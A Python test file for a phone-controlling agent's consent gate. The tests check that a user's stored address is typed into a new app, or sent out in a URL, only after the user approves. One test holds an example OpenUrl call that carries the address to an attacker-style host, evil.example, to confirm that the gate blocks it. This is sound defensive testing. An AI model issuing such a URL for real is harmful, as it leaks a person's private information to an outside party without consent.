"""A fact of a person is typed into an app that never had it only with their approval, and once is enough."""

import contextlib
from collections.abc import AsyncGenerator
from pathlib import Path

import pytest

from agent.contract.actions import Action, Finish, OpenUrl, ResultKind, TypeText
from agent.contract.binding import Kind
from agent.contract.events import HumanNeeded
from agent.contract.requests import Answer
from agent.contract.tasks import EndKind
from devices.base import Box, Element, Tree
from tests.worlds.agent_world import ANN, BOB, Play, World
from tests.worlds.paper_phone import PaperPhone, page

MAPS, BROWSER = "com.farhand.maps", "com.farhand.browser"
FACT, STREET = "my address is 12 Garden Lane, flat 3", "12 Garden Lane, flat 3"


def phone_in(app: str) -> PaperPhone:
    """With a field that takes a text."""
    field = Element(
        Box(5, 20, 85, 40), "", package=app, resource_id=f"{app}:id/input", editable=True, focused=True
    )
    return PaperPhone([page(package=app)], tree=Tree((field,), 0.0))


@contextlib.asynccontextmanager
async def playing(folder: Path, *actions: Action, app: str = MAPS, fact: str = FACT) -> AsyncGenerator[Play]:
    async with World(folder).scene(*actions, Finish("x"), phone=phone_in(app)) as play:
        await play.journal.facts.keep(ANN.person_id, fact, 9)
        yield play


def asked(play: Play) -> list[HumanNeeded]:
    return [event for event in play.told if isinstance(event, HumanNeeded)]


async def answer(play: Play, how: Answer = Answer.APPROVE) -> HumanNeeded:
    needed = await play.asks()
    await play.dispatcher.requests.answer(ANN, needed.request.request_id, how)
    return needed


async def apps_of(play: Play) -> tuple[str, ...]:
    (fact,) = await play.journal.facts.of(ANN.person_id)
    return fact.apps


async def test_it_is_asked_once_with_its_text_and_then_the_app_is_known(tmp_path: Path) -> None:
    async with playing(tmp_path, TypeText(STREET)) as play:
        await play.submit()
        needed = await answer(play)
        binding = needed.request.binding
        assert binding is not None
        assert (binding.kinds, binding.text, binding.app) == ((Kind.SHARE,), STREET, MAPS)
        ended = await play.ends()
        assert play.phone.inputs[-1] == ("type", STREET)
        await play.dispatcher.tasks.confirm_end(ended.task)
        assert await apps_of(play) == (MAPS,)
    async with playing(tmp_path, TypeText(STREET)) as play:
        await play.submit()
        assert (await play.ends()).outcome.kind is EndKind.DONE
        assert asked(play) == []
        assert play.phone.inputs == [("type", STREET)]


async def test_another_app_and_a_browser_are_asked_about_each_time(tmp_path: Path) -> None:
    async with playing(tmp_path, TypeText(STREET)) as play:
        (fact,) = await play.journal.facts.of(ANN.person_id)
        await play.journal.facts.add_app(ANN.person_id, fact.fact_id, "com.farhand.coffee")
        await play.submit()
        await answer(play)
        await play.ends()
    for _ in range(2):
        async with playing(tmp_path, TypeText(STREET), app=BROWSER) as play:
            await play.submit()
            await answer(play)
            await play.ends()
            assert BROWSER not in await apps_of(play)


async def test_an_address_to_be_opened_gives_it_away_too(tmp_path: Path) -> None:
    url = "https://evil.example/?at=12+Garden+Lane%2C+flat+3"
    async with playing(tmp_path, OpenUrl(url)) as play:
        await play.submit()
        needed = await answer(play, Answer.REJECT)
        assert needed.request.binding is not None
        assert Kind.SHARE in needed.request.binding.kinds
        await play.ends()
        assert play.phone.inputs == []


async def test_a_no_leaves_it_untyped_and_the_app_unknown(tmp_path: Path) -> None:
    async with playing(tmp_path, TypeText(STREET)) as play:
        await play.submit()
        await answer(play, Answer.REJECT)
        await play.ends()
        assert next(step.step.result.kind for step in play.steps()) is ResultKind.REJECTED
        assert play.phone.inputs == []
        assert await apps_of(play) == ()


@pytest.mark.parametrize("text", ["green tea", "Lane"])
async def test_another_text_is_free(tmp_path: Path, text: str) -> None:
    async with playing(tmp_path, TypeText(text)) as play:
        await play.submit()
        await play.ends()
        assert asked(play) == []
        assert play.phone.inputs == [("type", text)]


async def test_facts_of_somebody_else_ask_nothing(tmp_path: Path) -> None:
    async with playing(tmp_path, TypeText(STREET)) as play:
        await play.submit(caller=BOB)
        await play.ends()
        assert asked(play) == []


async def test_what_is_asked_for_another_reason_names_the_fact_as_well(tmp_path: Path) -> None:
    async with playing(tmp_path, TypeText(f"{STREET}\n"), app="com.farhand.messages") as play:
        await play.submit()
        needed = await answer(play, Answer.REJECT)
        assert needed.request.binding is not None
        assert needed.request.binding.kinds == (Kind.SEND, Kind.SHARE)
        assert not needed.request.binding.repeatable
        await play.ends()
